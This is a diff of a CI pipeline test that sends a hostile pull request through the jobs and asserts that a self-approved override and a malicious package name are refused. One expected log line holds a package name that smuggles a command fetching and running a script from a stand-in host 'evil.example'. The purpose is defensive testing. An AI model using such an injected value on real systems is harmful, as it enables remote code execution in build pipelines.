@@ -80,14 +80,13 @@ describe('a hostile pull request through the whole pipeline', () => {
     });
     const pr = fx.pullRequest(48213, 'main', 'feature/innocent');
     gh.addPull(FULL, { number: 48213, headSha: pr.head, baseSha: pr.base, headRef: 'feature/innocent', author });
-    const token = gh.addToken('ghs_hostile');
     gh.setPermission(FULL, author, 'write');
     // The author approves their own block, for this very commit.
     gh.addToken('tok_author', { login: author, kind: 'user' });
     const res = await fetch(`${gh.url}/repos/${FULL}/issues/48213/comments`, { method: 'POST', headers: { authorization: 'token tok_author', 'content-type': 'application/json', accept: 'application/vnd.github+json' }, body: JSON.stringify({ body: `/maestro override infra-frozen sha: ${pr.head.slice(0, 12)} reason: trust me` }) });
     expect(res.status).toBe(201);
 
-    const r = await runPrPipeline({ root, fx, gh, cache, repo: REPO, number: 48213, pr, headRef: 'feature/innocent', token, runId: 16823450912 });
+    const r = await runPrPipeline({ root, fx, gh, cache, repo: REPO, number: 48213, pr, headRef: 'feature/innocent', runId: 16823450912 });
     const job = (id: string) => r.jobs.find((j) => j.id === id)!.result;
     const all: RunResult[] = [...r.jobs.map((j) => j.result), r.health];
 
@@ -96,9 +95,10 @@ describe('a hostile pull request through the whole pipeline', () => {
     expect(job('affected').log).toMatch(/packages\/evil\/package\.json: project name "c;\$\(curl -s evil\.example\|sh\);#" is not a valid package name/);
     expect(Object.values(job('affected').outputs).join('\n')).not.toContain('curl');
 
-    // allocate-shards: the symlinked timings file is not read.
-    expect(job('allocate-shards').conclusion).toBe('failure');
-    expect(job('allocate-shards').log).toMatch(/resolves outside the workspace/);
+    // allocate-shards: the plan job needs affected, so the template skips it (its symlinked timings file is
+    // refused on its own in allocate-shards.test.ts); health reports its evidence missing below.
+    expect(r.workflow.jobs.find((j) => j.id === 'plan')!.result).toBe('skipped');
+    expect(r.workflow.jobs.find((j) => j.id === 'test')!.result).toBe('skipped');
 
     // risk-score: the base's model and CODEOWNERS; the PR's attributes do not shrink the change.
     const risk = job('risk-score');
